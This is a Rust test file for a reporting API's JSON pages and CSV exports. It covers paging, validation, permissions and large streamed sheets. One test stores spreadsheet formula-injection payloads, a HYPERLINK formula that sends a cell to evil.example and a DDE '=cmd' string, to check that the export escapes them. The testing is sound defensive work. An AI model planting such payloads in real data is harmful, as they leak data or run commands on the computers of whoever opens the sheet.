//! Reports over the interface: pages as JSON, everything as a sheet, and what somebody writes who means harm.

use super::super::reports::{Put, device};
use super::*;
use crate::domain::life::State;
use crate::domain::person::Details;
use crate::usecase::reports::{Holds, Report};

const SCOPES: [ApiScope; 2] = [ApiScope::DocumentsRead, ApiScope::PeopleRead];

/// The headers of a sheet and its bytes.
async fn sheet(caller: &Caller, path: &str) -> (HeaderMap, Vec<u8>) {
    let request = Request::builder().uri(format!("/t/club/api/v1{path}")).header(
        "authorization",
        format!("Bearer {}", caller.token.as_ref().unwrap()),
    );
    let request = request.body(Body::empty()).unwrap();
    let response = caller.router.clone().oneshot(request).await.unwrap();
    assert_eq!(response.status(), 200, "{path}");
    let (parts, body) = response.into_parts();
    let body = axum::body::to_bytes(body, 1 << 24).await.unwrap();
    (parts.headers, body.to_vec())
}

/// The cells of a sheet, as a program reads them that knows the format.
fn cells(text: &[u8]) -> Vec<Vec<String>> {
    let text = text.strip_prefix("\u{feff}".as_bytes()).unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text);
    let rows = reader
        .records()
        .map(|row| row.unwrap().iter().map(str::to_owned).collect());
    rows.collect()
}

#[test]
fn a_report_is_paged_by_its_cursor_and_has_what_is_described() {
    everywhere(async |mut world| {
        let (clerk, ada) = (world.clerk.clone(), world.ada.clone());
        for serial in ["a", "b", "c"] {
            Put::new(serial, &ada).into(&world).await;
        }
        device(&world, "v", &ada, [Some("android"), None]).await;
        let machine = Caller::machine(&mut world, &clerk, &SCOPES).await;
        let first = machine
            .get("/reports/documents?sort=serial&limit=2&state=active")
            .await;
        assert_eq!(first.status, 200, "{}", first.body);
        assert_eq!(first.header("cache-control"), "no-store");
        let serials: Vec<_> = first.body["rows"]
            .as_array()
            .unwrap()
            .iter()
            .map(|row| &row["serial"])
            .collect();
        assert_eq!(serials, ["a", "b"]);
        let row = &first.body["rows"][0];
        assert_eq!(
            (&row["person"], &row["logon_name"]),
            (&json!(ada.as_str()), &json!("ada"))
        );
        assert_eq!(
            (&row["current"], &row["device"], &row["profile_version"]),
            (&json!(true), &Value::Null, &json!(1))
        );
        assert_eq!(row["requested"], "2026-06-01T12:00:00Z");
        let next = first.text("next");
        let rest = machine
            .get(&format!(
                "/reports/documents?sort=serial&state=active&cursor={next}"
            ))
            .await;
        assert_eq!(
            (&rest.body["rows"][0]["serial"], &rest.body["next"]),
            (&json!("c"), &Value::Null)
        );
        let other = machine
            .get(&format!("/reports/documents?sort=serial&cursor={next}"))
            .await;
        assert_eq!(
            (other.problem(), other.text("field")),
            ((422, "field.invalid"), "cursor")
        );

        let description: Value = serde_json::from_str(&api::openapi("/t/club")).unwrap();
        for report in Report::ALL {
            let name = report.name();
            let page = machine.get(&format!("/reports/{name}")).await;
            let row = page.body["rows"][0].as_object().unwrap();
            let mut schema = name.to_owned();
            schema[..1].make_ascii_uppercase();
            let described = &description["components"]["schemas"][format!("{schema}Row")]["properties"];
            let names = |object: &Value| {
                object
                    .as_object()
                    .unwrap()
                    .keys()
                    .cloned()
                    .collect::<BTreeSet<_>>()
            };
            assert_eq!(
                row.keys().cloned().collect::<BTreeSet<_>>(),
                names(described),
                "{name}"
            );
            let parameters =
                &description["paths"][format!("/t/club/api/v1/reports/{name}")]["get"]["parameters"];
            let parameters: BTreeSet<_> = parameters
                .as_array()
                .unwrap()
                .iter()
                .map(|one| one["name"].as_str().unwrap())
                .collect();
            let expected = report.filters().iter().map(|filter| filter.name);
            assert_eq!(
                parameters,
                expected.chain(["sort", "limit", "cursor"]).collect(),
                "{name}"
            );
            for column in report.columns() {
                let value = &row[column.name];
                let fits = match column.holds {
                    Holds::Text | Holds::Instant => value.is_string(),
                    Holds::Number => value.is_i64(),
                    Holds::Flag => value.is_boolean(),
                };
                assert!(
                    fits || column.optional && value.is_null(),
                    "{name}: {} is {value}",
                    column.name
                );
            }
        }
    });
}

#[test]
fn current_and_previous_documents_of_a_person_are_told_from_each_other() {
    everywhere(async |mut world| {
        let (clerk, ada) = (world.clerk.clone(), world.ada.clone());
        Put::new("now", &ada).into(&world).await;
        Put {
            state: State::Expired,
            ..Put::new("then", &ada)
        }
        .into(&world)
        .await;
        let machine = Caller::machine(&mut world, &clerk, &SCOPES).await;
        let all = machine.get(&format!("/people/{ada}/documents")).await;
        let told: Vec<_> = all
            .body
            .as_array()
            .unwrap()
            .iter()
            .map(|one| (&one["serial"], &one["current"]))
            .collect();
        assert_eq!(
            told,
            [(&json!("now"), &json!(true)), (&json!("then"), &json!(false))]
        );
        for (current, serial) in [(true, "now"), (false, "then")] {
            let found = machine
                .get(&format!("/reports/documents?person={ada}&current={current}"))
                .await;
            assert_eq!(found.body["rows"].as_array().unwrap().len(), 1);
            assert_eq!(found.body["rows"][0]["serial"], serial);
        }
    });
}

#[test]
fn what_is_no_parameter_of_a_report_is_refused_and_nothing_is_sent() {
    everywhere(async |mut world| {
        let clerk = world.clerk.clone();
        let machine = Caller::machine(&mut world, &clerk, &SCOPES).await;
        for (path, expected) in [
            ("/reports/documents?platform=ios", (400, "query.invalid")),
            (
                "/reports/documents?state=active&state=active",
                (400, "query.invalid"),
            ),
            ("/reports/documents?limit=many", (400, "query.invalid")),
            ("/reports/documents?profile=%00", (400, "query.invalid")),
            ("/reports/documents.csv?limit=5", (400, "query.invalid")),
            ("/reports/documents.csv?cursor=x", (400, "query.invalid")),
            ("/reports/documents?limit=0", (422, "field.invalid")),
            ("/reports/documents?limit=501", (422, "field.invalid")),
            ("/reports/documents?state=asleep", (422, "field.invalid")),
            ("/reports/documents?sort=person", (422, "field.invalid")),
            ("/reports/documents?cursor=x", (422, "field.invalid")),
            ("/reports/documents.csv?sort=person", (422, "field.invalid")),
            ("/reports/nothing", (404, "")),
        ] {
            let answer = machine.get(path).await;
            if expected.0 == 404 {
                assert_eq!(answer.status, 404, "{path}");
            } else {
                assert_eq!(answer.problem(), expected, "{path}");
            }
        }
        // Whose role grants no reports gets no sheet either, and devices are of people.
        world.role("clerks", Scope::All, &[Workflow::RequestId]).await;
        for path in [
            "/reports/documents",
            "/reports/documents.csv",
            "/reports/devices.csv",
        ] {
            assert_eq!(
                machine.get(path).await.problem(),
                (403, "role.not-granted"),
                "{path}"
            );
        }
        let documents = Caller::machine(&mut world, &clerk, &[ApiScope::DocumentsRead]).await;
        for path in ["/reports/devices", "/reports/devices.csv"] {
            assert_eq!(
                documents.get(path).await.problem(),
                (403, "token.scope"),
                "{path}"
            );
        }
    });
}

#[test]
fn a_sheet_opens_right_in_a_spreadsheet() {
    everywhere(async |mut world| {
        let (clerk, ada) = (world.clerk.clone(), world.ada.clone());
        let notes = "says \"yes\", twice\nÅngström";
        Put {
            notes: Some(notes),
            ..Put::new("a", &ada)
        }
        .into(&world)
        .await;
        Put::new("b", &ada).into(&world).await;
        let machine = Caller::machine(&mut world, &clerk, &SCOPES).await;
        let (headers, text) = sheet(&machine, "/reports/requests.csv?sort=serial").await;
        assert_eq!(headers["content-type"], "text/csv; charset=utf-8");
        assert_eq!(
            headers["content-disposition"],
            "attachment; filename=\"requests.csv\""
        );
        assert_eq!(headers["cache-control"], "no-store");
        assert_eq!(text.get(..3), Some(&b"\xef\xbb\xbf"[..]));
        let plain = String::from_utf8(text.clone()).unwrap();
        assert!(plain.ends_with("\r\n"));
        assert_eq!(plain.matches("\r\n").count(), 3, "{plain}");
        assert!(
            plain.contains("\"says \"\"yes\"\", twice\nÅngström\"\r\n"),
            "{plain}"
        );
        let rows = cells(&text);
        let columns: Vec<_> = Report::Requests
            .columns()
            .iter()
            .map(|column| column.name)
            .collect();
        assert_eq!(rows[0], columns);
        assert_eq!(rows.len(), 3);
        let at = |name: &str| columns.iter().position(|column| *column == name).unwrap();
        assert_eq!(rows[1][at("notes")], notes);
        assert_eq!(rows[2][at("notes")], "");
        assert_eq!(rows[1][at("requested")], "2026-06-01T12:00:00Z");
        assert_eq!(rows[1][at("waiting")], "false");
    });
}

#[test]
fn what_somebody_chose_is_no_formula_in_a_sheet() {
    everywhere(async |mut world| {
        let clerk = world.clerk.clone();
        let details = Details {
            logon_name: "=HYPERLINK(\"https://evil.example/?\"&A1;\"x\")".to_owned(),
            given_name: "Mallory".to_owned(),
            family_name: "Example".to_owned(),
            ..Details::default()
        };
        let mallory = world.add(details).await.unwrap();
        let notes = Some("@SUM(1)\n=cmd|' /C calc'!A0");
        let doc_type = "+1+1";
        Put {
            notes,
            doc_type,
            ..Put::new("a", &mallory)
        }
        .into(&world)
        .await;
        device(&world, "v", &mallory, [Some("-2+3"), Some("\u{ff1d}1+1")]).await;
        let machine = Caller::machine(&mut world, &clerk, &SCOPES).await;
        for report in Report::ALL {
            let (_, text) = sheet(&machine, &format!("/reports/{}.csv", report.name())).await;
            let rows = cells(&text);
            assert_eq!(rows.len(), 2, "{}", report.name());
            for (column, cell) in report.columns().iter().zip(&rows[1]) {
                let begins = |line: &str| line.starts_with(['=', '+', '-', '@', '\t', '\r', '\u{ff1d}']);
                assert!(!cell.lines().any(begins), "{}: {cell}", column.name);
                let expected = match column.name {
                    "logon_name" => "'=HYPERLINK(\"https://evil.example/?\"&A1;\"x\")",
                    "notes" => "'@SUM(1)\n'=cmd|' /C calc'!A0",
                    "doc_type" => "'+1+1",
                    "platform" => "'-2+3",
                    "model" => "'\u{ff1d}1+1",
                    _ => continue,
                };
                assert_eq!(cell, expected, "{}", column.name);
            }
            // What programs read is what is there.
            let page = machine.get(&format!("/reports/{}", report.name())).await;
            let told = page.body["rows"][0]["doc_type"].as_str();
            assert!(told.is_none_or(|told| told == doc_type), "{}", report.name());
        }
    });
}

#[test]
fn a_sheet_of_many_rows_is_read_a_part_at_a_time_and_has_each_once() {
    everywhere(async |mut world| {
        let (clerk, ada) = (world.clerk.clone(), world.ada.clone());
        world
            .run(move |tx| {
                let sql = "INSERT INTO document (serial, person, profile, profile_version, doc_type, state, since, \
                           requested_by, requested, delivery, generation, moves) \
                           WITH RECURSIVE many (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM many WHERE n < 12000) \
                           SELECT 'd' || CAST(n AS TEXT), $1, 'licence', 1, 'x', 'collectable', 1, '', n / 7, 'held', 0, 0 \
                           FROM many";
                Ok(tx.execute(sql, &[(&ada).into()])?)
            })
            .await;
        let machine = Caller::machine(&mut world, &clerk, &SCOPES).await;
        let (_, text) = sheet(&machine, "/reports/documents.csv").await;
        let rows = cells(&text);
        assert_eq!(rows.len(), 12_001);
        let serials: BTreeSet<&str> = rows.iter().map(|row| row[0].as_str()).collect();
        assert_eq!(serials.len(), 12_001);
        assert_eq!(
            text.windows(3).filter(|three| *three == b"\xef\xbb\xbf").count(),
            1
        );

        // A machine that is switched off meanwhile gets no more, and what it got is no whole answer.
        let request = Request::builder()
            .uri("/t/club/api/v1/reports/documents.csv")
            .header(
                "authorization",
                format!("Bearer {}", machine.token.as_ref().unwrap()),
            );
        let request = request.body(Body::empty()).unwrap();
        let response = machine.router.clone().oneshot(request).await.unwrap();
        world
            .run(|tx| Ok(tx.execute("UPDATE client SET enabled = 0", &[])?))
            .await;
        assert!(axum::body::to_bytes(response.into_body(), 1 << 24).await.is_err());
    });
}
